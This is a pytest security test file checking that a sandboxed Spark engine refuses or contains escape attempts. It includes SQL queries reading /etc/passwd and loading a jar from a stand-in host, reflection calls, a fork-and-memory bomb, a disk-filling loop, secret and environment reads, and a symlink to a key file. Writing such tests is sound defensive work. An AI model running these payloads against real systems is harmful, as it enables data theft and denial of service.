"""Escapes from the real engine: by queries, and by code that runs in its Python and its Java as if a query had got
the better of them. In the end the workspace works as before.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from support.engine.exploited_engine import JOB, start_exploited
from support.engine.session import MEMORY

from odfpy.data.vocabulary import DEFAULT_VOCABULARY
from odfpy.engine.contract import SqlRequest, SqlResponseSuccess, SqlTable, TransformResponseInvalidQuery
from odfpy.engine.settings import EngineSettings, SandboxMode
from odfpy.engine.worker.admin import engine_status, stop_engine
from odfpy.engine.worker.client import SparkEngine
from odfpy.errors import EngineError, EngineUnavailable

pytestmark = pytest.mark.spark

SETTINGS = EngineSettings(
    memory=MEMORY, master="local[2]", sandbox=SandboxMode.REQUIRED, max_memory="2g", max_disk="64m"
)

QUERIES = {
    "a file of the machine, as a table": "SELECT * FROM text.`/etc/passwd`",
    "a file, as binary": "SELECT * FROM binaryFile.`/etc/passwd`",
    "a method of Java": "SELECT reflect('java.lang.System', 'getenv', 'HOME')",
    "another one": "SELECT java_method('java.lang.Runtime', 'getRuntime')",
    "one that fails quietly": "SELECT try_reflect('java.lang.System', 'exit', 1)",
    "a program": "SELECT TRANSFORM(1) USING 'cat /etc/passwd'",
    "a function in Hive": "CREATE TEMPORARY FUNCTION f AS 'org.apache.hadoop.hive.ql.udf.UDFLike'",
    "a function in Python": "CREATE TEMPORARY FUNCTION f() RETURNS INT LANGUAGE PYTHON AS 'import os'",
    "a jar": "ADD JAR '/tmp/odf-evil-canary.jar'",
    "a jar from the net": "ADD JAR 'http://192.0.2.1/evil.jar'",
    "a setting that loads a class": "SET spark.sql.catalog.evil = org.example.Evil",
    "a catalog": "SELECT * FROM jdbc.`jdbc:h2:mem:`",
    "a table elsewhere": "CREATE TABLE t USING parquet LOCATION '/tmp/t' AS SELECT 1",
    "files elsewhere": "INSERT OVERWRITE DIRECTORY '/tmp/odf-evil-canary' USING csv SELECT 1",
}


def write_slice(path: Path, numbers: list[int]) -> None:
    time = pa.array([0] * len(numbers), pa.timestamp("ms", "UTC"))
    offset, op = pa.array(range(len(numbers)), pa.int64()), pa.array([0] * len(numbers), pa.int32())
    columns = {"offset": offset, "op": op, "system_time": time, "event_time": time, "n": numbers}
    pq.write_table(pa.table(columns), path)


class World:
    """A workspace with two datasets and a key, and an engine that can be made to run anything."""

    def __init__(self, root: Path) -> None:
        self.odf = root / ".odf"
        self.out = self.odf / "run" / "scratch" / "1-x"
        for folder in (self.out, self.odf / "keys", self.odf / "datasets"):
            folder.mkdir(parents=True)
        self.key, self.mine, self.other = self.odf / "keys/k", self.odf / "datasets/mine", self.odf / "datasets/other"
        self.key.write_text("secret")
        write_slice(self.mine, [1, 2])
        write_slice(self.other, [3])
        self.engine = SparkEngine(self.odf / "run", SETTINGS)
        self.worker = start_exploited(self.engine.run, SETTINGS)

    def restart(self) -> None:
        """Another engine that can be made to run anything, in the place of one that has failed."""
        stop_engine(self.engine.run.path, force=True)
        self.worker.wait()
        self.worker = start_exploited(self.engine.run, SETTINGS)

    def exploit(self, code: str, reads: tuple[Path, ...] = ()) -> str:
        """What code is worth that runs in the engine."""
        self.out.mkdir(exist_ok=True)
        return self.engine.run_job(JOB, code, self.out, map(str, reads))

    def works(self) -> bool:
        table = SqlTable("mine", str(self.mine), (str(self.mine),), DEFAULT_VOCABULARY)
        self.out.mkdir(exist_ok=True)
        request = SqlRequest("SELECT sum(n) AS s FROM mine", (table,), str(self.out / "result"))
        return self.engine.sql(request) == SqlResponseSuccess(1)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    made = World(tmp_path_factory.mktemp("world"))
    yield made
    stop_engine(made.engine.run.path, force=True)
    made.worker.wait()


@pytest.mark.parametrize("query", QUERIES.values(), ids=QUERIES)
def test_a_query_that_reaches_out_is_refused(world: World, query: str):
    answer = world.engine.sql(SqlRequest(query, (), str(world.out / "result")))
    assert isinstance(answer, TransformResponseInvalidQuery)
    assert not Path("/tmp/odf-evil-canary").exists()


def test_code_in_java_sees_the_files_of_its_request_and_no_others(world: World):
    status = engine_status(world.engine.run.path)
    assert status is not None
    assert status.sandbox == "namespaces and Landlock"

    def exists(path: Path | str) -> str:
        return f"jvm.java.io.File({str(path)!r}).exists()"

    places = ["/etc/passwd", world.key, world.other, world.engine.run.log, Path.home() / ".bashrc", world.mine]
    seen = world.exploit(f"[{', '.join(map(exists, places))}]", reads=(world.mine,))
    assert seen == "[False, False, False, False, False, True]"
    assert world.exploit(exists(world.mine)) == "False"
    assert "FileNotFoundException" in world.exploit("jvm.java.io.FileInputStream('/etc/passwd')")


def test_code_in_java_writes_nowhere_else_and_reaches_nobody(world: World):
    write = "jvm.java.io.FileOutputStream({!r})"
    for place in (world.mine, world.other.with_name("new"), Path("/tmp/odf-evil-canary"), Path.home() / "evil"):
        answer = world.exploit(write.format(str(place)), reads=(world.mine,))
        assert "Read-only file system" in answer or "No such file" in answer
    with socket.create_server(("127.0.0.1", 0)) as outside:
        port = outside.getsockname()[1]
        assert "ConnectException" in world.exploit(f"jvm.java.net.Socket('127.0.0.1', {port})")
    assert "Network is unreachable" in world.exploit("jvm.java.net.Socket('192.0.2.1', 80)")
    assert "ProcessLookupError" in world.exploit(f"os.kill({world.worker.pid}, 9)")
    assert "secret" not in world.exploit("dict(os.environ)") + world.exploit("jvm.java.lang.System.getenv()").lower()
    assert world.works()


def test_a_link_in_the_place_of_a_result_is_not_followed(world: World):
    with pytest.raises(EngineUnavailable, match="not a file"):
        world.exploit(f"os.symlink({str(world.key)!r}, {str(world.out / 'data')!r})")
    world.restart()
    assert world.works()


@pytest.mark.parametrize(
    ("harm", "words"),
    [
        ("exec('x = []\\nwhile True: os.fork() or x.append(bytearray(256 << 20)) or signal.pause()')", "of memory"),
        (
            "[open(f'{os.getcwd()}/{n}', 'wb').write(bytes(4 << 20)) for n in range(50)] and time.sleep(600)",
            "to the disk",
        ),
    ],
)
def test_an_engine_that_takes_too_much_is_ended_and_the_next_one_serves(world: World, harm: str, words: str):
    with pytest.raises(EngineUnavailable, match=words):
        world.exploit(harm)
    world.restart()
    assert world.works()


def test_what_runs_for_ever_is_ended_from_outside(world: World):
    hasty = SparkEngine(world.engine.run.path, replace(SETTINGS, job_seconds=1))
    world.out.mkdir(exist_ok=True)
    with pytest.raises(EngineError, match="took longer than 1 s"):
        hasty.run_job(JOB, "next(n for n in iter(int, 1) if n)", world.out)
    world.worker.wait()
    assert not world.out.exists()
    world.restart()
    assert world.works()
